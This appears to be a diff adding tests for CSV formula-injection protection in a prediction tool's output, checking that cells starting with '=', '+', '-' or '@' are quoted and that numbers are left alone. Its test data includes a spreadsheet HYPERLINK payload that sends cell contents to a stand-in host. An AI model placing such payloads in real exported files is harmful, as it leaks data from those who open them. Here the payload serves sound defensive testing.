@@ -19,6 +19,7 @@ from starlette.testclient import TestClient
 
 from api.app import create
 from jobs.cli.app import main
+from jobs.language.formulas import safe_text
 from jobs.pipelines.predictions import RowPredictions
 from jobs.tabular.predict import predictor
 from jobs.verbs import datasets, predictions
@@ -419,3 +420,33 @@ def test_the_command_writes_the_file(home, tmp_path, capsysbinary, monkeypatch):
     after = pd.read_csv(out, sep=";", encoding="cp1254")
     assert after["prediction"].tolist() == model.predict(pd.read_csv(path, sep=";", encoding="cp1254")).tolist()
     assert main(["predict", "999", str(path)]) == 1 and b"no workflow 999" in capsysbinary.readouterr().err
+
+
+def test_predictions_run_no_formula(home):
+    """What no spreadsheet has run yet cannot begin a formula: labels, and rows that were no CSV. Numbers stay numbers,
+    and CSV comes back as it was."""
+    formula, label = '=HYPERLINK("http://x/?"&A1,"x")', "=1+1"
+    given = tables.turkish().decode("cp1254").replace("Hayır", label)
+    number, model = trained(given.encode("cp1254"), "abone mi", "LR")
+    assert label in model.classes_
+    row = {"yaş": -5, "şehir": formula, "kayıt tarihi": "01.02.2024", "gelir": "-1,5", "puan": "1", "posta kodu": "-"}
+    lines = "\n".join(json.dumps({**row, "-x": "@5", "yaş": age}) for age in range(-5, 80, 5)).encode()
+    made = predictions.predict_file(number, io.BytesIO(lines), "a.jsonl")
+    written = list(csv.DictReader(io.StringIO(made.read().decode("utf-8-sig"))))
+    assert {each["şehir"] for each in written} == {f"'{formula}"} and {each["'-x"] for each in written} == {"'@5"}
+    assert {each["prediction"] for each in written} == {f"'{label}"}
+    assert (written[0]["yaş"], written[0]["gelir"], written[0]["posta kodu"]) == ("-5", "-1,5", "-")
+    assert codes(made.about.notices)["predict_cells_quoted", None] == {"count": 3 * len(written)}
+    again = (
+        tables.turkish().decode("cp1254").replace("Ağrı", formula.replace('"', "").replace(",", "")).encode("cp1254")
+    )
+    back = predictions.predict_file(number, io.BytesIO(again), "b.csv").read().decode("cp1254")
+    assert ";=HYPERLINK(http://x/?&A1x);" in back and f";'{label};" in back
+
+
+def test_written_as_it_was_a_sign_is_no_formula():
+    """Signs that stand for a class or for missing, and numbers however written, are no formulas."""
+    for text in ("+", "-", "-5", "+5,25", "+90 555 1234567", "-1.234,5", "1e-5", "-1E+5", "a=1"):
+        assert safe_text(text) == text
+    for text in ("=1", "-1+1", "+a", "@x", "-1,5-cmd", "\t=1"):
+        assert safe_text(text) == f"'{text}"
